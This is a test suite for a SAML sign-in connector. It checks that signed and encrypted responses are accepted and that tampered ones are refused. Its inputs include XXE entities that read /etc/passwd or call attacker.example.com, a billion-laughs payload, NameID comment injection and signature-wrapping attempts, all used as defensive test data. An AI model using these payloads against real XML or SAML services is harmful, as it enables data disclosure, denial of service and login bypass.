import { ConnectorErrorCodes as Codes } from '@logto/connector-kit';
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
import { makeErrorResponse, type Protection, signElement, statementsFor } from './identity-provider.test-helper.ts';
import { makeKeyPair } from './key-pair.test-helper.ts';
import { attributes, nameId } from './mock.ts';
import { identityProviderKeys, serviceProviderKeys } from './sample-keys.test-helper.ts';
import {
  type Begun,
  begin,
  connectorWith,
  type Departure,
  deliver,
  plainConfig,
  refusal,
  respond,
  signInWith,
} from './sign-in.test-helper.ts';

const strangersKeys = makeKeyPair('attacker.example.com');
const encryptingConfig = { ...plainConfig, encryptAssertion: true };
const encrypted = { encryptFor: serviceProviderKeys.certificate };
const now = Date.now();
const at = (milliseconds: number) => new Date(now + milliseconds);

beforeEach(() => {
  vi.useFakeTimers({ toFake: ['Date'], now });
});
afterEach(() => {
  vi.useRealTimers();
});

const refused = (departure: Departure, config?: unknown) => refusal(signInWith(departure, config));

const accept = async (departure: Departure, config?: unknown) =>
  expect(await signInWith(departure, config)).toMatchObject({ id: nameId, email: attributes.mail });

/** A response that somebody has changed on its way. */
const tampered = async (change: (xml: string) => string, departure: Departure = {}) => {
  const begun = await begin();
  const xml = await respond(begun, departure);
  const changed = change(xml);
  expect(changed).not.toBe(xml);
  return deliver(begun, changed);
};

describe('a response is accepted', () => {
  test.each<[string, Partial<Protection>]>([
    ['with a signed assertion', { signs: ['assertion'] }],
    ['that is signed as a whole', { signs: ['response'] }],
    ['with both signed', { signs: ['assertion', 'response'] }],
    ['signed with SHA-512', { algorithm: 'sha512' }],
  ])('%s', (_, protection) => accept({ protection }));

  test.each<[string, Partial<Protection>]>([
    ['whose assertion is signed and then encrypted', { signs: ['assertion'] }],
    ['that is signed around an encrypted assertion', { signs: ['response'] }],
    ['with both, signed before and after', { signs: ['assertion', 'response'] }],
    ['that was signed as a whole before its assertion was encrypted', { signs: ['response'], encryptsLast: true }],
  ])('%s', (_, protection) =>
    accept({ protection: { ...encrypted, ...protection } }, { ...encryptingConfig, messageSigningOrder: undefined }),
  );

  test('with a signature made before encryption only where the order is that', async () => {
    const protection: Partial<Protection> = { ...encrypted, signs: ['response'], encryptsLast: true };
    const config = { ...encryptingConfig, messageSigningOrder: 'encrypt-then-sign' };
    expect(await refused({ protection }, config)).toMatchObject({ field: 'EncryptedAssertion' });
  });

  test.each([
    ['PKCS #1', serviceProviderKeys.privateKey],
    ['PKCS #8', undefined],
  ])('with a decryption key in %s', async (_, given) => {
    const { createPrivateKey } = await import('node:crypto');
    const key = createPrivateKey(serviceProviderKeys.privateKey);
    const encPrivateKey = given ?? key.export({ type: 'pkcs8', format: 'pem' }).toString();
    await accept({ protection: encrypted }, { ...encryptingConfig, encPrivateKey });
  });

  test('with a decryption key behind a passphrase', async () => {
    const { createPrivateKey } = await import('node:crypto');
    const encPrivateKey = createPrivateKey(serviceProviderKeys.privateKey)
      .export({ type: 'pkcs1', format: 'pem', cipher: 'aes-256-cbc', passphrase: 'open sesame' })
      .toString();
    const config = { ...encryptingConfig, encPrivateKey, encPrivateKeyPass: 'open sesame' };
    await accept({ protection: encrypted }, config);
    const wrong = await refused({ protection: encrypted }, { ...config, encPrivateKeyPass: 'sesame' });
    expect(wrong).toMatchObject({ code: Codes.InvalidConfig, field: 'encPrivateKey' });
  });
});

describe('a signature', () => {
  const unsigned = { code: Codes.InvalidResponse, field: 'Signature' };

  test('must be there', async () => {
    expect(await refused({ protection: { signs: [] } })).toMatchObject(unsigned);
  });

  test('must be there in what is encrypted', async () => {
    const { code, field } = await refused({ protection: { ...encrypted, signs: [] } }, encryptingConfig);
    expect({ code, field }).toEqual({ code: Codes.InvalidResponse, field: 'EncryptedAssertion' });
  });

  test('must be made with a key of the configuration, never with that of the response’s KeyInfo', async () => {
    const begun = await begin();
    const xml = await respond(begun, { protection: { keys: strangersKeys } });
    expect(xml).toContain('<ds:X509Certificate>');
    expect(await refusal(deliver(begun, xml))).toMatchObject(unsigned);
  });

  test('may name any certificate: it is the key that counts', () =>
    accept({ protection: { keys: { ...identityProviderKeys, certificate: strangersKeys.certificate } } }));

  test.each([
    ['the name ID', (xml: string) => xml.replace(nameId, 'somebody-else')],
    ['an attribute', (xml: string) => xml.replace(attributes.mail, 'admin@example.com')],
    ['the digest', (xml: string) => xml.replace(/(<ds:DigestValue>)./, '$1A')],
    ['the signature value', (xml: string) => xml.replace(/(<ds:SignatureValue>)[^<]{8}/, '$1AAAAAAAA')],
    ['its own place', (xml: string) => xml.replace(/<ds:Signature .*<\/ds:Signature>/s, '')],
  ])('does not survive a change of %s', async (_, change) => {
    expect(await refusal(tampered(change))).toMatchObject(unsigned);
  });

  test('by SHA-1 is refused', async () => {
    const { code, field } = await refused({ protection: { algorithm: 'sha1' } });
    expect({ code, field }).toEqual({ code: Codes.InvalidResponse, field: 'SignatureMethod' });
  });

  test('by SHA-1 is accepted where the administrator has chosen it', () =>
    accept(
      { protection: { algorithm: 'sha1' } },
      { ...plainConfig, requestSignatureAlgorithm: 'http://www.w3.org/2000/09/xmldsig#rsa-sha1' },
    ));

  test('by SHA-1 is refused in what is encrypted, too', async () => {
    const told = await refused({ protection: { ...encrypted, algorithm: 'sha1' } }, encryptingConfig);
    expect(told).toMatchObject({ field: 'EncryptedAssertion' });
  });

  test('by HMAC is refused, whose key an attacker would know', async () => {
    const change = (xml: string) =>
      xml.replace('http://www.w3.org/2001/04/xmldsig-more#rsa-sha256', 'http://www.w3.org/2000/09/xmldsig#hmac-sha1');
    expect(await refusal(tampered(change))).toMatchObject({ field: 'SignatureMethod' });
  });

  test('of another response by the same identity provider is refused', async () => {
    const [mine, theirs] = [await begin(), await begin()];
    expect(await refusal(deliver(mine, await respond(theirs)))).toMatchObject({ code: Codes.AuthorizationFailed });
  });
});

describe('encryption', () => {
  test('is expected where it is configured', async () => {
    expect(await refused({}, encryptingConfig)).toMatchObject({ field: 'encryptAssertion' });
  });

  test('is not expected where it is not', async () => {
    expect(await refused({ protection: encrypted })).toMatchObject({ field: 'encryptAssertion' });
  });

  test.each<[string, Partial<Protection>]>([
    ['RSA 1.5', { keyTransport: 'http://www.w3.org/2001/04/xmlenc#rsa-1_5' }],
    ['Triple DES', { cipher: 'http://www.w3.org/2001/04/xmlenc#tripledes-cbc' }],
  ])('by %s is refused', async (_, protection) => {
    const told = await refused({ protection: { ...encrypted, ...protection } }, encryptingConfig);
    expect(told).toMatchObject({ code: Codes.InvalidResponse, field: 'EncryptionMethod' });
  });

  test('fails in one way, whatever is wrong inside', async () => {
    const departures: Departure[] = [
      { protection: { ...encrypted, encryptFor: strangersKeys.certificate } },
      { protection: { ...encrypted, keys: strangersKeys } },
      {
        protection: encrypted,
        told: { edit: (xml) => xml.replace('<saml:Subject>', '<saml:Assertion/><saml:Subject>') },
      },
    ];
    const refusals = await Promise.all(departures.map((departure) => refused(departure, encryptingConfig)));
    expect(new Set(refusals.map((told) => JSON.stringify(told))).size).toBe(1);
    expect(refusals[0]?.field).toBe('EncryptedAssertion');
  });
});

describe('an assertion', () => {
  const elsewhere = 'https://elsewhere.example.com/';

  test.each<[string, Departure['told'], string, string]>([
    ['issuer', { issuer: elsewhere }, 'Issuer', Codes.AuthorizationFailed],
    ['audience', { audience: elsewhere }, 'Audience', Codes.InvalidResponse],
    ['recipient', { recipient: elsewhere }, 'Recipient', Codes.InvalidResponse],
    ['destination', { destination: elsewhere }, 'Destination', Codes.InvalidResponse],
    ['request of its response', { inResponseTo: '_other' }, 'InResponseTo', Codes.AuthorizationFailed],
    ['request of its confirmation', { confirmationInResponseTo: '_other' }, 'InResponseTo', Codes.InvalidResponse],
  ])('with another %s is refused', async (_, told, field, code) => {
    expect(await refused({ told: told ?? {} })).toMatchObject({ code, field });
  });

  test.each([
    ['issuer', (xml: string) => xml.replace(/<saml:Issuer>.*<\/saml:Issuer>/, '<saml:Issuer/>'), 'Issuer'],
    [
      'audience',
      (xml: string) => xml.replace(/<saml:AudienceRestriction>.*<\/saml:AudienceRestriction>/, ''),
      'Audience',
    ],
    ['conditions', (xml: string) => xml.replace(/<saml:Conditions .*<\/saml:Conditions>/, ''), 'Audience'],
    ['recipient', (xml: string) => xml.replace(/ Recipient="[^"]*"/, ''), 'Recipient'],
    ['request', (xml: string) => xml.replace(/ InResponseTo="[^"]*"/, ''), 'InResponseTo'],
    ['end', (xml: string) => xml.replace(/( Recipient="[^"]*") NotOnOrAfter="[^"]*"/, '$1'), 'NotOnOrAfter'],
    ['bearer confirmation', (xml: string) => xml.replace('cm:bearer', 'cm:sender-vouches'), 'SubjectConfirmation'],
  ])('without %s is refused, although it is signed', async (_, edit, field) => {
    expect(await refused({ told: { edit } })).toMatchObject({ field });
  });

  test('may have one confirmation for us among others', () =>
    accept({
      told: {
        edit: (xml) => {
          const [ours = ''] = /<saml:SubjectConfirmation .*<\/saml:SubjectConfirmation>/.exec(xml) ?? [];
          return xml.replace(ours, () => ours.replace(/ Recipient="[^"]*"/, ` Recipient="${elsewhere}"`) + ours);
        },
      },
    }));

  test('may have a response around it that does not name issuer and destination', async () => {
    const begun = await begin();
    const xml = await respond(begun);
    const change = (text: string) =>
      text.replace(/ Destination="[^"]*"/, '').replace(/<saml:Issuer>[^<]*<\/saml:Issuer>/, '');
    await expect(deliver(begun, change(xml))).resolves.toHaveProperty('code');
  });

  // The clock drift of the configuration is five seconds.
  test.each([
    ['that begins within the clock drift', { notBefore: at(5000) }],
    ['that ended within the clock drift', { notOnOrAfter: at(-4999) }],
  ])('%s is accepted', (_, told) => accept({ told }));

  test.each([
    ['that begins later', { notBefore: at(5001) }, 'NotBefore'],
    ['that has ended', { notOnOrAfter: at(-5000) }, 'NotOnOrAfter'],
  ])('%s is refused', async (_, told, field) => {
    expect(await refused({ told })).toMatchObject({ code: Codes.InvalidResponse, field });
  });

  test('whose confirmation begins later is refused', async () => {
    const begins = (when: Date) => (xml: string) =>
      xml.replace(' Recipient=', ` NotBefore="${when.toISOString()}" Recipient=`);
    expect(await refused({ told: { edit: begins(at(5001)) } })).toMatchObject({ field: 'NotBefore' });
    await accept({ told: { edit: begins(at(5000)) } });
  });

  test('whose conditions have ended is refused, although its confirmation has not', async () => {
    const ends = (when: Date) => (xml: string) =>
      xml.replace(/(<saml:Conditions [^>]*) NotOnOrAfter="[^"]*"/, `$1 NotOnOrAfter="${when.toISOString()}"`);
    expect(await refused({ told: { edit: ends(at(-5000)) } })).toMatchObject({ field: 'NotOnOrAfter' });
    await accept({ told: { edit: ends(at(-4999)) } });
  });

  test('needs no end of its conditions, as its confirmation has one', () =>
    accept({ told: { edit: (xml) => xml.replace(/(<saml:Conditions [^>]*) NotOnOrAfter="[^"]*"/, '$1') } }));

  test.each(['NotBefore', 'NotOnOrAfter'])('with a %s of its conditions that is no time is refused', async (field) => {
    const edit = (xml: string) => xml.replace(new RegExp(`(<saml:Conditions [^>]*${field}=)"[^"]*"`), '$1"soon"');
    expect(await refused({ told: { edit } })).toMatchObject({ code: Codes.InvalidResponse, field });
  });

  test('is held against a wider clock drift where that is configured', () =>
    accept({ told: { notOnOrAfter: at(-6000) } }, { ...plainConfig, timeout: 10_000 }));
});

/** Changes the assertion before the identity provider signs it. */
const edited = (from: string | RegExp, to: string): Departure => ({
  told: {
    edit: (xml) => {
      const changed = xml.replace(from, to);
      expect(changed).not.toBe(xml);
      return changed;
    },
  },
});

describe('a response', () => {
  const issuer = '<saml:Issuer>https://idp.example.org/SAML2</saml:Issuer>';
  /** What stands around the assertion is not signed, and is held against the request all the same. */
  const around = (from: string | RegExp, to: string) => refusal(tampered((xml) => xml.replace(from, to)));

  test('of another issuer is refused, whatever its assertion says', async () => {
    const told = await around(issuer, '<saml:Issuer>https://idp.example.com/SAML2</saml:Issuer>');
    expect(told).toMatchObject({ code: Codes.AuthorizationFailed, field: 'Issuer' });
  });

  test('of this issuer may be laid out in lines', async () => {
    const laidOut = issuer.replace(/>(.+)</, '>\n  $1\n<');
    expect(await tampered((xml) => xml.replace(issuer, laidOut))).toHaveProperty('code');
  });

  test('of two issuers is refused', async () => {
    expect(await around(issuer, issuer + issuer)).toMatchObject({ code: Codes.InvalidResponse, field: 'Issuer' });
  });

  test.each([
    ['another version', ' Version="2.1"'],
    ['an older version', ' Version="1.1"'],
    ['no version', ''],
  ])('of %s is refused', async (_, version) => {
    expect(await around(' Version="2.0"', version)).toMatchObject({ code: Codes.InvalidResponse, field: 'Version' });
  });

  test('that answers no request says what to do', async () => {
    const told = await around(/ InResponseTo="[^"]*"/, '');
    expect(told).toMatchObject({ code: Codes.AuthorizationFailed, field: 'InResponseTo' });
    expect(told.said).toMatch(/begins at the provider is not supported. Start at the sign-in page/);
  });

  test('whose assertion answers no request says the same', async () => {
    const told = await refused(edited(/ InResponseTo="[^"]*"/, ''));
    expect(told).toMatchObject({ code: Codes.AuthorizationFailed, field: 'InResponseTo' });
    expect(told.said).toMatch(/begins at the provider is not supported/);
  });
});

describe('what an assertion says twice, or says that is not understood, is refused:', () => {
  const subject = /<saml:Subject>.*<\/saml:Subject>/;
  const conditions = /<saml:Conditions .*<\/saml:Conditions>/;

  test.each<[string, string | RegExp, string, string]>([
    ['another version', ' Version="2.0"', ' Version="2.1"', 'Version'],
    ['no version', ' Version="2.0"', '', 'Version'],
    ['two issuers', /<saml:Issuer>.*<\/saml:Issuer>/, '$&$&', 'Issuer'],
    ['two subjects', subject, '$&$&', 'Subject'],
    ['two name IDs', /<saml:NameID .*<\/saml:NameID>/, '$&$&', 'NameID'],
    ['conditions twice', conditions, '$&$&', 'Conditions'],
    ['a condition of its own kind', '<saml:AudienceRestriction>', '<saml:Condition/>$&', 'Condition'],
    [
      'a condition of another namespace',
      '<saml:AudienceRestriction>',
      '<OneTimeUse xmlns="urn:other"/>$&',
      'Condition',
    ],
    [
      'a second audience that is not ours',
      /<saml:AudienceRestriction>.*<\/saml:AudienceRestriction>/,
      '$&<saml:AudienceRestriction><saml:Audience>other</saml:Audience></saml:AudienceRestriction>',
      'Audience',
    ],
    ['a restriction to nobody', /<saml:Audience>.*<\/saml:Audience>/, '', 'Audience'],
    [
      'no statement that somebody has signed in',
      /<saml:AuthnStatement .*<\/saml:AuthnStatement>/,
      '',
      'AuthnStatement',
    ],
    [
      'such a statement of another namespace',
      /<saml:AuthnStatement .*<\/saml:AuthnStatement>/,
      '<AuthnStatement/>',
      'AuthnStatement',
    ],
  ])('%s', async (_, from, to, field) => {
    const told = await refused(edited(from, to));
    expect(told).toMatchObject({ code: Codes.InvalidResponse, field });
  });

  test('no ID, by which it would be known again', async () => {
    const departure = edited(/(<saml:Assertion .*?) ID="[^"]*"/, '$1');
    expect(await refused({ ...departure, protection: { signs: ['response'] } })).toMatchObject({ field: 'Assertion' });
  });

  test.each([
    ['that it be used once', '<saml:OneTimeUse/>'],
    ['who may pass it on', '<saml:ProxyRestriction Count="0"/>'],
    [
      'another audience beside ours',
      '<saml:AudienceRestriction><saml:Audience>other</saml:Audience><saml:Audience> https://sp.example.com/SAML2 </saml:Audience></saml:AudienceRestriction>',
    ],
  ])('but not %s', (_, condition) => accept(edited('<saml:AudienceRestriction>', `${condition}$&`)));

  test('but not that somebody has signed in twice', () =>
    accept(edited(/<saml:AuthnStatement .*<\/saml:AuthnStatement>/, '$&$&')));
});

describe('a session at the identity provider', () => {
  const ending = (when: string) => edited(' SessionIndex=', ` SessionNotOnOrAfter="${when}"$&`);

  test('that goes on is accepted, within the clock drift, too', async () => {
    await accept(ending(at(60_000).toISOString()));
    await accept(ending(at(-4999).toISOString()));
  });

  test.each([at(-5000).toISOString(), 'soon', ''])('that has ended is refused (%s)', async (when) => {
    expect(await refused(ending(when))).toMatchObject({ code: Codes.InvalidResponse, field: 'SessionNotOnOrAfter' });
  });

  test('that has ended is refused, although another goes on', async () => {
    const ended = `<saml:AuthnStatement SessionNotOnOrAfter="${at(-5000).toISOString()}"/>`;
    expect(await refused(edited('<saml:AttributeStatement>', `${ended}$&`))).toMatchObject({
      field: 'SessionNotOnOrAfter',
    });
  });
});

describe('attributes', () => {
  const profileOf = async (attributes: string) => {
    const begun = await begin();
    const to = `<saml:AttributeStatement>${attributes}</saml:AttributeStatement>`;
    const departure = edited(/<saml:AttributeStatement>.*<\/saml:AttributeStatement>/, to.replaceAll('$', '$$$$'));
    await deliver(begun, await respond(begun, departure));
    return begun.caller.written.at(-1)?.profile;
  };
  const attribute = (name: string, ...values: string[]) =>
    `<saml:Attribute Name="${name}">${values.map((value) => `<saml:AttributeValue>${value}</saml:AttributeValue>`).join('')}</saml:Attribute>`;

  test('of one name are one list', async () => {
    const roles = attribute('role', 'a') + attribute('role', 'b', 'c');
    expect(await profileOf(roles)).toEqual({ id: nameId, role: ['a', 'b', 'c'] });
  });

  test('without a value or a name are left out', async () => {
    const empty = `${attribute('a')}${attribute('b', '', ' ')}<saml:Attribute/>${attribute('c', '', 'd')}`;
    expect(await profileOf(empty)).toEqual({ id: nameId, c: 'd' });
  });

  test('named as every object’s own are like any other', async () => {
    expect(await profileOf(attribute('constructor', 'a') + attribute('toString', 'b', 'c'))).toEqual({
      id: nameId,
      constructor: 'a',
      toString: ['b', 'c'],
    });
  });

  test('of other namespaces are none', async () => {
    const other = attribute('a', 'b').replaceAll('saml:', '');
    expect(
      await profileOf(other + attribute('c', 'd').replace('<saml:AttributeValue>', '<AttributeValue/>$&')),
    ).toEqual({
      id: nameId,
      c: 'd',
    });
  });

  test('may be as many as a large directory has groups', async () => {
    const groups = Array.from({ length: 1500 }, (_, index) => `group-${index}`);
    expect(await profileOf(attribute('groups', ...groups))).toEqual({ id: nameId, groups });
  });
});

describe('a name ID', () => {
  const victim = 'user@example.com<!---->.evil.com';

  test('is read whole around a comment, as its signature covers it', async () => {
    expect(await signInWith({ told: { nameId: victim } })).toMatchObject({ id: 'user@example.com.evil.com' });
    expect(await signInWith({ told: { nameId: victim }, protection: { signs: ['response'] } })).toMatchObject({
      id: 'user@example.com.evil.com',
    });
  });

  test('that gets a comment on its way is read whole, or refused', async () => {
    const begun = await begin();
    const xml = await respond(begun, { told: { nameId: 'user@example.com.evil.com' } });
    await deliver(begun, xml.replace('user@example.com.evil.com', victim));
    expect(begun.caller.written.at(-1)).toMatchObject({ profile: { id: 'user@example.com.evil.com' } });
  });

  test('that gets a processing instruction on its way is refused', async () => {
    const change = (xml: string) => xml.replace(nameId, `${nameId}<?x?>`);
    expect(await refusal(tampered(change))).toMatchObject({ field: 'SAMLResponse' });
  });

  test('is read without the white space that the document is laid out with', async () => {
    expect(await signInWith({ told: { nameId: '\n      user\n    ' } })).toMatchObject({ id: 'user' });
  });

  test.each([' user', 'user ', '\tuser', 'user\u00a0', '\n user '])(
    'is refused with white space of its own: %j',
    async (written) => {
      expect(await refused({ told: { nameId: written } })).toMatchObject({ code: Codes.InvalidResponse, field: 'id' });
    },
  );
});

describe('a text that is no response', () => {
  const nestedNamespaces = (count: number) =>
    Array.from({ length: count }, (_, index) => `<a xmlns:b${index}="urn:x:${index}">`).join('') + '</a>'.repeat(count);
  const attributesOf = (count: number) => Array.from({ length: count }, (_, index) => ` a${index}=""`).join('');

  const doctype = (declarations: string) => (xml: string) => `<!DOCTYPE lolz [${declarations}]>${xml}`;
  const laughs = Array.from({ length: 9 }, (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`);

  test.each([
    ['that expands entities without end', doctype(`<!ENTITY l0 "lol">${laughs.join('')}`)],
    ['that asks for a file', doctype('<!ENTITY file SYSTEM "file:///etc/passwd">')],
    ['that asks for a URL', doctype('<!ENTITY % url SYSTEM "http://attacker.example.com/"> %url;')],
    ['with a document type alone', (xml: string) => `<!DOCTYPE Response>${xml}`],
    ['with an entity that nobody declares', (xml: string) => xml.replace(nameId, '&file;')],
    ['that is not well-formed', (xml: string) => xml.replace('</saml:Assertion>', '')],
    ['with a second root', (xml: string) => `${xml}${xml}`],
    ['with something before it', (xml: string) => `x${xml}`],
    ['of another protocol', (xml: string) => xml.replace('SAML:2.0:protocol', 'SAML:1.0:protocol')],
    ['of another kind', (xml: string) => xml.replaceAll('samlp:Response', 'samlp:LogoutResponse')],
    ['of nothing', () => ''],
    ['with a processing instruction', (xml: string) => `<?xml-stylesheet href="a"?>${xml}`],
    ['of more than a hundred kibibytes', (xml: string) => `${xml}${' '.repeat(102_400)}`],
    ['of 340 kB of nested namespaces', (xml: string) => xml.replace('<samlp:Status>', `${nestedNamespaces(5000)}$&`)],
    ['of namespaces inside one another', (xml: string) => xml.replace('<samlp:Status>', `${nestedNamespaces(30)}$&`)],
    ['of thousands of elements', (xml: string) => xml.replace('<samlp:Status>', `${'<a/>'.repeat(5000)}$&`)],
    [
      'of elements inside one another',
      (xml: string) => xml.replace('<samlp:Status>', `${'<a>'.repeat(33)}${'</a>'.repeat(33)}$&`),
    ],
    ['with many attributes', (xml: string) => xml.replace('<samlp:Response', `$&${attributesOf(33)}`)],
  ])('%s is refused', async (_, change) => {
    expect(await refusal(tampered(change))).toMatchObject({ code: Codes.InvalidResponse, field: 'SAMLResponse' });
  });

  const postedAs = async (SAMLResponse: unknown, { caller }: Begun) => {
    const { validateSamlAssertion } = await connectorWith(plainConfig);
    const posted = { body: { SAMLResponse, RelayState: 'jti-of-the-host' } };
    return validateSamlAssertion?.(posted, caller.peekSession, caller.setSession);
  };
  const refusedText = { code: Codes.InvalidResponse, field: 'SAMLResponse' };

  test.each([undefined, null, 7, ['PHNhbWw='], {}])('of %j is refused', async (SAMLResponse) => {
    expect(await refusal(postedAs(SAMLResponse, await begin()))).toMatchObject(refusedText);
  });

  test('of other bytes than UTF-8 is refused', async () => {
    const begun = await begin();
    const xml = Buffer.from(await respond(begun, { told: { nameId: 'é' } }), 'latin1').toString('base64');
    expect(await refusal(postedAs(xml, begun))).toMatchObject(refusedText);
  });

  test('may have line breaks in its Base64, and is then as long as any', async () => {
    const begun = await begin();
    const xml = (await respond(begun)).replace('</samlp:Response>', (end) => `${'<!---->'.repeat(13_000)}${end}`);
    const lines = Buffer.from(xml).toString('base64').replaceAll(/.{64}/g, '$&\r\n');
    expect(await postedAs(lines, begun)).toContain('code=');
  });

  test('may have so many, and no more', async () => {
    const begun = await begin();
    const encoded = Buffer.from(await respond(begun)).toString('base64');
    const padded = (length: number) => encoded.padEnd(length, '\n');
    expect(await refusal(postedAs(padded(153_601), begun))).toMatchObject(refusedText);
    const other = await begin();
    const otherEncoded = Buffer.from(await respond(other)).toString('base64');
    expect(await postedAs(otherEncoded.padEnd(153_600, '\n'), other)).toContain('code=');
  });

  test('is not even decoded where it is too long for that', async () => {
    const decode = vi.spyOn(Buffer, 'from');
    const begun = await begin();
    decode.mockClear();
    expect(await refusal(postedAs('A'.repeat(200_000), begun))).toMatchObject(refusedText);
    expect(decode.mock.calls.filter(([text]) => String(text).length > 100_000)).toEqual([]);
    decode.mockRestore();
  });
});

describe('an error response', () => {
  const error = async (...status: [code: string, detail?: string, message?: string]) => {
    const begun = await begin();
    const told = statementsFor(begun.request, 'https://idp.example.org/SAML2');
    return refusal(deliver(begun, makeErrorResponse(told, ...status)));
  };

  test.each(['AuthnFailed', 'RequestDenied'])('%s says that the person did not sign in', async (detail) => {
    const told = await error('Responder', detail, 'You are not assigned to this application.');
    expect(told.code).toBe(Codes.AuthorizationFailed);
    expect(told.said).toMatch(/cancelled.*You are not assigned to this application\.$/);
  });

  test('is passed on in the words of the identity provider', async () => {
    const told = await error('Requester', 'InvalidNameIDPolicy', 'No such format.');
    expect(told).toMatchObject({ code: Codes.General, said: expect.stringContaining('No such format.') });
  });

  test('without details has the name of its status', async () => {
    const begun = await begin();
    const xml = makeErrorResponse(statementsFor(begun.request, 'https://idp.example.org/SAML2'), 'VersionMismatch');
    await expect(deliver(begun, xml)).rejects.toMatchObject({
      code: Codes.General,
      data: { error: 'VersionMismatch' },
    });
  });

  test('without a status is an error all the same', async () => {
    const begun = await begin();
    const xml = makeErrorResponse(statementsFor(begun.request, 'https://idp.example.org/SAML2'), 'Responder');
    const unnamed = refusal(deliver(begun, xml.replace(/ Value="[^"]*"/, '')));
    expect(await unnamed).toMatchObject({ code: Codes.General, said: expect.stringMatching(/^The provider/) });
  });

  test('does not become a success by having an assertion', async () => {
    const begun = await begin();
    const xml = await respond(begun, { protection: { signs: ['assertion'] } });
    const told = await refusal(deliver(begun, xml.replace('status:Success', 'status:Responder')));
    expect(told.code).toBe(Codes.General);
  });
});

test('an element that is signed and is no assertion gains nobody anything', async () => {
  const begun = await begin();
  const xml = await respond(begun, { protection: { signs: [] } });
  const id = begun.request.id.replace('_', '_x');
  const extensions = `<samlp:Extensions ID="${id}"><saml:Issuer/></samlp:Extensions>`;
  const extended = xml.replace('<samlp:Status>', `${extensions}<samlp:Status>`);
  const signed = signElement(extended, id, { keys: identityProviderKeys, algorithm: 'sha256' });
  expect(await refusal(deliver(begun, signed))).toMatchObject({ field: 'Signature' });
});
